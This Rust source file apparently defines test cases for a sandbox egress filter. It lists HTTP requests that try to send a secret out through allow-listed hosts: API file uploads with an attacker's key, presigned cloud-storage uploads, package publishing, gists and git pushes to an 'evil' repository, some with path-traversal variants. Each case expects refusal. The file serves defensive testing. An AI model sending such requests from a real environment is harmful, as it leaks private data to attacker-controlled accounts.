//! Through hosts of the Trusted list: where strangers keep what was sent, and hand it out to whoever they like. The hosts are
//! those of the world, and the range's while the list is run.

use crate::attack::{Attack, Inside, Section, Speaks, TWIN};
use crate::build::{Draft, attack as draft, shared_connect};

/// The credential of an environment that has the Trusted list and nothing else.
const TOKEN: &str = "trusted";
const REFUSED: &[&str] = &["trusted-write-refused"];

fn attack(class: &'static str, tries: &'static str) -> Draft {
    draft(Section::AllowedHost, class, tries)
}

pub(super) fn list() -> Vec<Attack> {
    let mut list = accounts();
    list.extend(repositories());
    list
}

impl Draft {
    /// A request of one line, with these fields and a body.
    fn sends(self, host: &'static str, line: &str, fields: &str, body: &str) -> Self {
        let sent = request(host, line, fields, body);
        self.at(host).tried(sent)
    }

    /// The same as the twin.
    fn sends_twin(self, what: &'static str, host: &'static str, line: &str, body: &str) -> Self {
        let sent = request(host, line, &format!("{TWIN}: 1\r\n"), body);
        self.at(host).beside(what, sent)
    }
}

fn request(host: &str, line: &str, fields: &str, body: &str) -> crate::attack::Attempt {
    let inside = Inside::Tls {
        name: Some(host.to_owned()),
        speaks: Speaks::Http1,
    };
    let length = match body.len() {
        0 => String::new(),
        length => format!("content-length: {length}\r\n"),
    };
    let text = format!("{line} HTTP/1.1\r\nhost: {host}\r\n{fields}{length}\r\n{body}");
    shared_connect(&format!("{host}:443"), TOKEN, inside, vec![text.into_bytes()])
}

fn accounts() -> Vec<Attack> {
    vec![
        attack(
            "files-for-another-account",
            "an attacker's own key to an allowed API: what is uploaded there is the attacker's to fetch",
        )
        .known("Files API, January 2026")
        .sends("api.anthropic.com", "POST /v1/files", KEY, SECRET)
        .sends("api.anthropic.com", "POST /v1/messages/batches", KEY, SECRET)
        .sends("api.anthropic.com", "POST /v1/skills", KEY, SECRET)
        .sends("api.anthropic.com", "POST /v1/messages/../files", KEY, SECRET)
        .sends("api.anthropic.com", "POST /v1/messages%2f..%2ffiles", KEY, SECRET)
        .sends_twin(
            "a question to the model",
            "api.anthropic.com",
            "POST /v1/messages",
            SECRET,
        )
        .refused(REFUSED),
        attack(
            "presigned-upload",
            "a presigned URL, which needs no account of the sender's: a PUT, or a form by POST",
        )
        .known("presigned storage URLs")
        .sends(
            "bucket.s3.amazonaws.com",
            "PUT /x?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Signature=aa",
            "",
            SECRET,
        )
        .sends(
            "s3.eu-central-1.amazonaws.com",
            "PUT /bucket/x?X-Amz-Signature=aa",
            "",
            SECRET,
        )
        .sends("bucket.s3.amazonaws.com", "POST /", FORM, SECRET)
        .sends(
            "bucket.s3.amazonaws.com",
            "POST /x?uploads&X-Amz-Signature=aa",
            "",
            "",
        )
        .sends(
            "storage.googleapis.com",
            "PUT /bucket/x?X-Goog-Signature=aa",
            "",
            SECRET,
        )
        .sends(
            "storage.googleapis.com",
            "POST /upload/storage/v1/b/bucket/o?uploadType=media&name=x",
            "",
            SECRET,
        )
        .sends(
            "bucket.s3.amazonaws.com",
            "GET /x?X-Amz-Signature=aa",
            "x-http-method-override: PUT\r\n",
            SECRET,
        )
        .sends_twin(
            "a presigned download",
            "bucket.s3.amazonaws.com",
            "GET /x?X-Amz-Signature=aa",
            "",
        )
        .refused(REFUSED),
        attack(
            "anybodys-account-in-a-cloud",
            "queues, logs and functions in an account of the attacker's, below a domain that the list names",
        )
        .known("*.amazonaws.com")
        .sends(
            "sqs.us-east-1.amazonaws.com",
            "POST /111122223333/queue",
            FORM,
            "Action=SendMessage&MessageBody=secret",
        )
        .sends(
            "logs.us-east-1.amazonaws.com",
            "POST /",
            "x-amz-target: Logs_20140328.PutLogEvents\r\n",
            SECRET,
        )
        .sends("x.lambda-url.us-east-1.on.aws", "POST /", "", SECRET)
        .sends("logging.googleapis.com", "POST /v2/entries:write", "", SECRET)
        .sends_twin(
            "a login, which keeps nothing",
            "sts.amazonaws.com",
            "POST /",
            "Action=GetCallerIdentity",
        )
        .refused(&["trusted-write-refused", "host-not-allowed"]),
    ]
}

fn repositories() -> Vec<Attack> {
    vec![
        attack(
            "publishing-a-package",
            "a package of the attacker's name, with the secret in it",
        )
        .sends("registry.npmjs.org", "PUT /outwall-secret", "", SECRET)
        .sends(
            "registry.npmjs.org",
            "PUT /-/package/outwall-secret/dist-tags/latest",
            "",
            SECRET,
        )
        .sends("test.pypi.org", "POST /legacy/", FORM, SECRET)
        .sends("crates.io", "PUT /api/v1/crates/new", "", SECRET)
        .sends("rubygems.org", "POST /api/v1/gems", "", SECRET)
        .sends(
            "registry-1.docker.io",
            "POST /v2/outwall/secret/blobs/uploads/",
            "",
            SECRET,
        )
        .sends_twin(
            "an audit of dependencies, which is a POST",
            "registry.npmjs.org",
            "POST /-/npm/v1/security/advisories/bulk",
            "{}",
        )
        .refused(REFUSED),
        attack("gist", "a gist, which anybody who has its address can read")
            .known("gists")
            .sends("api.github.com", "POST /gists", "", SECRET)
            .sends("api.github.com", "POST /graphql", "", SECRET)
            .sends("gist.github.com", "POST /", FORM, SECRET)
            .sends("api.github.com", "POST /repos/evil/x/issues", "", SECRET)
            .sends("api.github.com", "PUT /repos/evil/x/contents/secret", "", SECRET)
            .sends_twin(
                "reading",
                "api.github.com",
                "GET /repos/evil/x/contents/readme",
                "",
            )
            .refused(REFUSED),
        attack(
            "push-to-anybodys-repository",
            "a push to a repository of the attacker's",
        )
        .sends("github.com", "POST /evil/x.git/git-receive-pack", PACK, SECRET)
        .sends(
            "github.com",
            "POST /evil/x/git-upload-pack/../git-receive-pack",
            PACK,
            SECRET,
        )
        .sends("gitlab.com", "POST /evil/x.git/git-receive-pack", PACK, SECRET)
        .sends(
            "gitlab.com",
            "POST /api/v4/projects/1/repository/files/x.git%2Fgit-upload-pack",
            PACK,
            SECRET,
        )
        .sends_twin(
            "a fetch, which is a POST",
            "github.com",
            "POST /evil/x.git/git-upload-pack",
            "0000",
        )
        .refused(REFUSED),
    ]
}

const KEY: &str = "x-api-key: the-attackers-own\r\nanthropic-version: 2023-06-01\r\n";
const FORM: &str = "content-type: application/x-www-form-urlencoded\r\n";
const PACK: &str = "content-type: application/x-git-receive-pack-request\r\n";
const SECRET: &str = "what only the sandbox knows";
